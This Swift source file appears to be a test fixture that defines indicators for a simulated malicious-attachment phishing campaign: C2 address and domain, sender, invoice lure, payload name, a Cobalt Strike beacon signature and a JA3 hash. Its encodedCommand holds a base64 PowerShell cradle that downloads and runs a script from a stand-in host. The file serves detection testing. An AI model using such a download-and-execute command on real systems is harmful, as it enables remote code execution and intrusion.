/// The indicators of the malicious-attachment campaign. They are the same in every tenant (one
/// actor hits several customers), which is what the two-tenant scenario relies on.
public enum PhishingCampaign {
    public static let c2IP = "203.0.113.50"
    public static let c2Domain = "cdn.officeupdate-sync.example"
    public static let sender = "accounts@invoice-portal.example"
    public static let senderDisplayName = "Accounts Receivable"
    public static let senderIP = "198.51.100.77"
    public static let subject = "Overdue invoice INV-2026-1187 – payment required"
    public static let attachmentName = "Invoice_INV-2026-1187.docm"
    public static let attachmentHashes = FileHashes(of: "campaign-attachment:" + attachmentName)
    public static let payloadName = "OneDriveUpdater.exe"
    public static let payloadHashes = FileHashes(of: payloadName)
    static let encodedCommand =
        "JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQBuAHQAOwAkAGMALgBIAGUAYQBkAGUAcgBzAC4AQQBkAGQAKAAnAFUAcwBlAHIALQBBAGcAZQBuAHQAJwAsACcATQBvAHoAaQBsAGwAYQAvADUALgAwACcAKQA7AEkARQBYACAAJABjAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwAHMAOgAvAC8AYwBkAG4ALgBvAGYAZgBpAGMAZQB1AHAAZABhAHQAZQAtAHMAeQBuAGMALgBlAHgAYQBtAHAAbABlAC8AagBxAHUAZQByAHkALQAzAC4AMwAuADEALgBtAGkAbgAuAGoAcwAnACkA"
    static let beaconSignature = SuricataRecords.Signature(
        id: 2_047_921, revision: 3, text: "ET MALWARE Cobalt Strike CnC Beacon Observed (jquery profile)",
        category: "A Network Trojan was detected", severity: 1, appProto: "tls",
        metadata: [("attack_target", ["Client_Endpoint"]), ("signature_severity", ["Major"]),
                   ("mitre_technique_id", ["T1071"]), ("mitre_tactic_id", ["TA0011"])])
    static let ja3 = "72a589da586844d7f0818ce684948eea" + "e35df3e00ca4ef31d42b34bebaa2f86e"
}
